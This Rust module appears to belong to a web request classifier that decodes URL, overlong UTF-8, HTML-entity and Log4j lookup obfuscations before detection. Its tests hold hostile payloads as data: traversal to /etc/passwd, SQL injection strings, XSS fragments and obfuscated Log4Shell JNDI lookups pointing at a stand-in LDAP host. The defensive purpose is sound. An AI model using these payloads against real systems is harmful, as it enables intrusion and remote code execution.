//! Normalisation of attacker text before classification: URL decoding (repeated,
//! so double encoding does not hide anything), `+` as space in forms, overlong
//! UTF-8 (`%c0%ae` for `.`), HTML entities, Log4j lookup tricks (`${lower:j}`, `${::-n}`, `${env:X:-d}`), and ASCII
//! case. Pure functions over byte buffers the caller reuses, so a request costs no
//! allocation once its connection's buffers have grown.
//!
//! Written by hand: the decoding is the classifier's own logic (how far to go, in
//! what order, with what bounds), not a protocol another crate implements.

/// Rounds of percent-decoding at most (`%25252e` needs three).
const MAX_URL_ROUNDS: usize = 3;
/// Log4j lookups resolved at most (each one removes a `${`, so this bounds the work).
const MAX_LOOKUPS: usize = 64;

/// Writes the normalised form of `input` into `out` (cleared first), using `tmp` as
/// scratch. `form`: the text is `application/x-www-form-urlencoded` (query, body),
/// where `+` means a space.
pub fn normalize(input: &[u8], form: bool, out: &mut Vec<u8>, tmp: &mut Vec<u8>) {
    out.clear();
    out.extend_from_slice(input);
    if form && out.contains(&b'+') {
        for b in out.iter_mut() {
            if *b == b'+' {
                *b = b' ';
            }
        }
    }
    // Bounded: a hostile `%252525...` costs at most this many passes, each linear.
    for _ in 0..MAX_URL_ROUNDS {
        if !percent_decode(out, tmp) {
            break;
        }
        std::mem::swap(out, tmp);
    }
    if out.iter().any(|&b| matches!(b, 0xc0 | 0xc1 | 0xe0)) && overlong_utf8(out, tmp) {
        std::mem::swap(out, tmp);
    }
    if out.contains(&b'&') && html_entities(out, tmp) {
        std::mem::swap(out, tmp);
        // Entities may hide percent escapes too (`&#37;2e`).
        if percent_decode(out, tmp) {
            std::mem::swap(out, tmp);
        }
    }
    if memchr_pair(out, b'$', b'{') {
        resolve_lookups(out, tmp);
    }
    out.make_ascii_lowercase();
}

fn hex(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

/// Decodes `%XX` (and IIS-style `%uXXXX` for ASCII) from `input` into `out`; returns
/// whether anything was decoded (if not, `out` is unspecified).
pub fn percent_decode(input: &[u8], out: &mut Vec<u8>) -> bool {
    if !input.contains(&b'%') {
        return false;
    }
    out.clear();
    let mut changed = false;
    let mut i = 0;
    while i < input.len() {
        let b = input[i];
        if b == b'%' {
            if let (Some(h), Some(l)) = (
                input.get(i + 1).copied().and_then(hex),
                input.get(i + 2).copied().and_then(hex),
            ) {
                out.push(h << 4 | l);
                i += 3;
                changed = true;
                continue;
            }
            if matches!(input.get(i + 1), Some(b'u' | b'U'))
                && let Some(v) = input.get(i + 2..i + 6).and_then(|h| {
                    h.iter()
                        .try_fold(0u32, |acc, &c| Some(acc << 4 | u32::from(hex(c)?)))
                })
                && v < 0x80
            {
                out.push(v as u8);
                i += 6;
                changed = true;
                continue;
            }
        }
        out.push(b);
        i += 1;
    }
    changed
}

/// Decodes overlong UTF-8 encodings of ASCII characters (`c0 ae` and `e0 80 ae` for
/// `.`, `c0 af` for `/`, `c1 9c` for `\`): invalid UTF-8 that old IIS, Tomcat and
/// many embedded servers decode anyway, which is why traversal probes use them.
/// Longer overlong forms and other bytes are copied as they are. Writes into `out`;
/// returns whether anything was decoded (if not, `out` is unspecified). Never grows
/// the text: each two- or three-byte form becomes one byte.
pub fn overlong_utf8(input: &[u8], out: &mut Vec<u8>) -> bool {
    out.clear();
    let mut changed = false;
    let mut i = 0;
    while i < input.len() {
        if let Some((ascii, used)) = overlong_at(&input[i..]) {
            out.push(ascii);
            i += used;
            changed = true;
            continue;
        }
        out.push(input[i]);
        i += 1;
    }
    changed
}

/// The ASCII character an overlong sequence at the start of `bytes` stands for,
/// and its length.
fn overlong_at(bytes: &[u8]) -> Option<(u8, usize)> {
    let continuation = |b: u8| b & 0xc0 == 0x80;
    match *bytes {
        // Two bytes, lead c0 or c1: always overlong, always ASCII.
        [lead @ (0xc0 | 0xc1), b1, ..] if continuation(b1) => {
            Some((((lead & 0x1f) << 6) | (b1 & 0x3f), 2))
        }
        // Three bytes, e0 80 xx: an overlong ASCII character.
        [0xe0, b1 @ (0x80 | 0x81), b2, ..] if continuation(b2) => {
            Some((((b1 & 0x3f) << 6) | (b2 & 0x3f), 3))
        }
        _ => None,
    }
}

/// Decodes HTML character references (`&lt;`, `&#60;`, `&#x3c;`, a few named ones
/// attackers use); returns whether anything changed.
pub fn html_entities(input: &[u8], out: &mut Vec<u8>) -> bool {
    out.clear();
    let mut changed = false;
    let mut i = 0;
    while i < input.len() {
        if input[i] == b'&'
            && let Some((value, used)) = entity(&input[i + 1..])
        {
            push_char(out, value);
            i += 1 + used;
            changed = true;
            continue;
        }
        out.push(input[i]);
        i += 1;
    }
    changed
}

/// The character of an entity starting after `&`, and the bytes it used (the `;`
/// is optional, as browsers accept it without).
fn entity(rest: &[u8]) -> Option<(u32, usize)> {
    if let Some(num) = rest.strip_prefix(b"#") {
        let (radix, digits, skip) = match num.first() {
            Some(b'x' | b'X') => (16, &num[1..], 2),
            _ => (10, num, 1),
        };
        let len = digits
            .iter()
            .take(8)
            .take_while(|c| (**c as char).is_digit(radix))
            .count();
        if len == 0 {
            return None;
        }
        let text = std::str::from_utf8(&digits[..len]).ok()?;
        let value = u32::from_str_radix(text, radix).ok()?;
        let semi = usize::from(digits.get(len) == Some(&b';'));
        return Some((value, skip + len + semi));
    }
    const NAMED: &[(&[u8], u32)] = &[
        (b"lt", '<' as u32),
        (b"gt", '>' as u32),
        (b"quot", '"' as u32),
        (b"apos", '\'' as u32),
        (b"amp", '&' as u32),
        (b"sol", '/' as u32),
        (b"bsol", '\\' as u32),
        (b"colon", ':' as u32),
        (b"lpar", '(' as u32),
        (b"rpar", ')' as u32),
        (b"semi", ';' as u32),
        (b"equals", '=' as u32),
        (b"period", '.' as u32),
        (b"tab", '\t' as u32),
        (b"newline", '\n' as u32),
        (b"dollar", '$' as u32),
        (b"lcub", '{' as u32),
        (b"rcub", '}' as u32),
        (b"grave", '`' as u32),
        (b"verbar", '|' as u32),
        (b"nbsp", ' ' as u32),
    ];
    for (name, value) in NAMED {
        if rest.len() >= name.len() && rest[..name.len()].eq_ignore_ascii_case(name) {
            let semi = usize::from(rest.get(name.len()) == Some(&b';'));
            return Some((*value, name.len() + semi));
        }
    }
    None
}

fn push_char(out: &mut Vec<u8>, value: u32) {
    let c = char::from_u32(value).unwrap_or('\u{fffd}');
    let mut buf = [0u8; 4];
    out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
}

fn memchr_pair(data: &[u8], a: u8, b: u8) -> bool {
    data.windows(2).any(|w| w[0] == a && w[1] == b)
}

/// Resolves the Log4j lookups attackers use to hide `${jndi:`: innermost first,
/// `${lower:x}` / `${upper:x}` become `x`, `${anything:-x}` (a default value, as in
/// `${::-j}` or `${env:NOPE:-j}`) becomes `x`, `${date:'x'}` becomes `x`. Other
/// lookups (`${jndi:...}` itself) are kept as they are.
pub fn resolve_lookups(text: &mut Vec<u8>, tmp: &mut Vec<u8>) {
    let mut done = 0;
    // Positions of `${` that are known not to resolve, so the scan moves past them.
    let mut skip_before = 0usize;
    while done < MAX_LOOKUPS {
        // The innermost lookup: the last `${` before the first `}` after it.
        let Some(open) = innermost(text, skip_before) else {
            break;
        };
        let Some(close_rel) = text[open + 2..].iter().position(|&b| b == b'}') else {
            break;
        };
        let close = open + 2 + close_rel;
        let inner = &text[open + 2..close];
        let replacement: Option<&[u8]> = if let Some(pos) = find(inner, b":-") {
            Some(&inner[pos + 2..])
        } else if let Some(rest) =
            strip_prefix_ci(inner, b"lower:").or_else(|| strip_prefix_ci(inner, b"upper:"))
        {
            Some(rest)
        } else if let Some(rest) = strip_prefix_ci(inner, b"date:'") {
            Some(rest.strip_suffix(b"'").unwrap_or(rest))
        } else {
            None
        };
        match replacement {
            Some(rep) => {
                tmp.clear();
                tmp.extend_from_slice(&text[..open]);
                tmp.extend_from_slice(rep);
                tmp.extend_from_slice(&text[close + 1..]);
                std::mem::swap(text, tmp);
                done += 1;
            }
            None => skip_before = open + 2,
        }
    }
}

/// The last `${` at or after `from` that comes before the first `}` following `from`.
fn innermost(text: &[u8], from: usize) -> Option<usize> {
    let mut best = None;
    let mut i = from;
    while i + 1 < text.len() {
        match text[i] {
            b'$' if text[i + 1] == b'{' => {
                best = Some(i);
                i += 2;
                continue;
            }
            b'}' if best.is_some() => return best,
            _ => {}
        }
        i += 1;
    }
    None
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

fn strip_prefix_ci<'a>(text: &'a [u8], prefix: &[u8]) -> Option<&'a [u8]> {
    (text.len() >= prefix.len() && text[..prefix.len()].eq_ignore_ascii_case(prefix))
        .then(|| &text[prefix.len()..])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn norm(input: &[u8], form: bool) -> String {
        let (mut out, mut tmp) = (Vec::new(), Vec::new());
        normalize(input, form, &mut out, &mut tmp);
        String::from_utf8_lossy(&out).into_owned()
    }

    #[test]
    fn url_double_url_plus_and_case() {
        assert_eq!(norm(b"%2E%2E%2Fetc%2Fpasswd", false), "../etc/passwd");
        assert_eq!(norm(b"%252e%252e%252f", false), "../");
        assert_eq!(norm(b"%25252e", false), ".");
        assert_eq!(norm(b"UNION+SELECT", true), "union select");
        assert_eq!(norm(b"a+b", false), "a+b");
        assert_eq!(norm(b"%u002e%u002e/", false), "../");
        assert_eq!(norm(b"100%", false), "100%");
        assert_eq!(norm(b"%zz%4", false), "%zz%4");
    }

    #[test]
    fn attacker_encodings_decode() {
        // Double-encoded quote and traversal, as sqlmap's and scanners' tamper
        // scripts send them.
        assert_eq!(norm(b"id=1%2527%2520OR%25201%253D1", true), "id=1' or 1=1");
        assert_eq!(
            norm(b"%252e%252e%252fetc%252fpasswd", false),
            "../etc/passwd"
        );
        // Mixed-case escapes and `+` as a space in forms only.
        assert_eq!(norm(b"%2E%2e%2F%2f", false), "..//");
        assert_eq!(norm(b"q=union+select", true), "q=union select");
        assert_eq!(norm(b"q=union+select", false), "q=union+select");
        // Overlong UTF-8 for `.`, `/` and `\`, raw or behind one more encoding.
        assert_eq!(norm(b"%c0%ae%c0%ae%c0%afetc", false), "../etc");
        assert_eq!(norm(b"%C0%AE%C0%AE%c1%9cwin.ini", false), "..\\win.ini");
        assert_eq!(norm(b"%25c0%25ae%25c0%25ae/", false), "../");
        assert_eq!(norm(b"%e0%80%ae%e0%80%ae/", false), "../");
        // Real UTF-8 is left alone, and a lone or truncated lead byte too.
        assert_eq!(
            norm("caf%C3%A9 \u{e9}".as_bytes(), false),
            "caf\u{e9} \u{e9}"
        );
        assert_eq!(norm(b"%c0", false), "\u{fffd}");
        assert_eq!(norm(b"%e0%80", false), "\u{fffd}\u{fffd}");
    }

    #[test]
    fn url_rounds_are_bounded() {
        // Four encodings: three rounds undo three, the fourth stays visible (and
        // the text never grows, whatever the nesting).
        assert_eq!(norm(b"%2525252e", false), "%2e");
        let deep = format!("%{}2e", "25".repeat(10_000));
        let n = norm(deep.as_bytes(), false);
        assert!(n.len() <= deep.len());
    }

    #[test]
    fn html_entities_decode() {
        assert_eq!(norm(b"&lt;script&gt;", false), "<script>");
        assert_eq!(norm(b"&#60;svg&#x3E;&#X3c;", false), "<svg><");
        assert_eq!(
            norm(b"javascript&colon;alert&lpar;1&rpar;", false),
            "javascript:alert(1)"
        );
        assert_eq!(norm(b"%26lt%3bimg", false), "<img");
        assert_eq!(norm(b"&#0000060", false), "<");
        assert_eq!(norm(b"AT&T", false), "at&t");
        assert_eq!(norm(b"&#99999999999;", false), "\u{fffd}999;");
    }

    #[test]
    fn log4j_obfuscations_resolve_to_jndi() {
        for payload in [
            &b"${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}"[..],
            b"${${lower:j}ndi:ldap://x/a}",
            b"${${upper:j}${upper:n}${lower:d}${lower:i}:rmi://x/a}",
            b"${j${k8s:k5:-ND}i:ldap://x/a}",
            b"${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}",
            b"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
            b"%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
        ] {
            let n = norm(payload, false);
            assert!(
                n.contains("${jndi:"),
                "{} -> {n}",
                String::from_utf8_lossy(payload)
            );
        }
    }

    #[test]
    fn lookups_are_bounded_and_truncation_is_safe() {
        let deep = b"${".repeat(10_000);
        let n = norm(&deep, false);
        assert_eq!(n.len(), 20_000);
        let many = b"${::-a}".repeat(1000);
        let n = norm(&many, false);
        assert!(n.len() <= many.len());
        for cut in 0..20 {
            let p = &b"${${::-j}ndi:ldap://"[..cut];
            let _ = norm(p, false);
            let _ = norm(&b"%2"[..cut.min(2)], true);
            let _ = norm(&b"&#x3"[..cut.min(4)], true);
        }
    }
}
